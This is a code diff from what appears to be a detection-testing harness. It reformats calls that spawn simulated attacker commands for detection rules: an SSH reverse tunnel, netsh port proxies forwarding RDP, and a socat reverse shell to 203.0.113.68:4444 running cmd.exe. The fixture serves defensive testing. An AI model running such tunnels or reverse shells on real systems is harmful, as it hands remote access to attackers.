@@ -78,8 +78,9 @@ def _ssh_forwards(plan: Planner) -> None:
     )
     s.spawn("ssh", "ssh -fNL 15432:srv-db-01.corp.example.com:5432 frank@jump.corp.example.com", ps, hits=_SSH_PLAIN,
             near=(SSH_REMOTE_ACCESS,))  # fmt: skip
-    s.spawn("ssh", "ssh -N -R 3389:10.20.10.21:33890 relay@203.0.113.53", ps, hits=_SSH_PLAIN,
-            near=(SSH_REMOTE_ACCESS,))  # fmt: skip  (the target port is 33890, not RDP)
+    s.spawn(
+        "ssh", "ssh -N -R 3389:10.20.10.21:33890 relay@203.0.113.53", ps, hits=_SSH_PLAIN, near=(SSH_REMOTE_ACCESS,)
+    )  # fmt: skip  (the target port is 33890, not RDP)
     for command in (
         "ssh -V",
         "ssh -l admin -p 2222 srv-db-01.corp.example.com",
@@ -107,7 +108,8 @@ def _port_proxies(plan: Planner) -> None:
     for command, key, rule in (
         ("netsh interface portproxy add v4tov4 listenport=8001 listenaddress=0.0.0.0 connectport=3389 "
          "connectaddress=10.20.10.21", "v4tov4\\tcp\\0.0.0.0/8001", "10.20.10.21/3389"),
-        ("netsh I p a v l=8001 listena=127.0.0.1 connectp=3389 c=1.1.1.1", "v4tov4\\tcp\\127.0.0.1/8001", "1.1.1.1/3389"),
+        ("netsh I p a v l=8001 listena=127.0.0.1 connectp=3389 c=1.1.1.1", "v4tov4\\tcp\\127.0.0.1/8001",
+         "1.1.1.1/3389"),
         ('"C:\\Windows\\System32\\netsh.exe" int portproxy set v4tov4 listenport=8443 connectaddress=10.20.10.31 '
          "connectport=443", "v4tov4\\tcp\\*/8443", "10.20.10.31/443"),
     ):  # fmt: skip
@@ -191,8 +193,14 @@ def _proxy_tools(plan: Planner) -> None:
          'zabbix_agentd.conf"'),
     ):  # fmt: skip
         s.spawn(image, command, shell, account="sql", integrity="High", near=(PROXY_TOOL, PROXY_TOOLS))
-    s.spawn(f"{tools}socat.exe", f"{tools}socat.exe TCP4:203.0.113.68:4444 EXEC:cmd.exe,pipes", shell, account="sql",
-            integrity="High", near=(PROXY_TOOLS,))  # fmt: skip  (a reverse shell, not a relay)
+    s.spawn(
+        f"{tools}socat.exe",
+        f"{tools}socat.exe TCP4:203.0.113.68:4444 EXEC:cmd.exe,pipes",
+        shell,
+        account="sql",
+        integrity="High",
+        near=(PROXY_TOOLS,),
+    )  # fmt: skip  (a reverse shell, not a relay)
     plan.place(s)
 
 
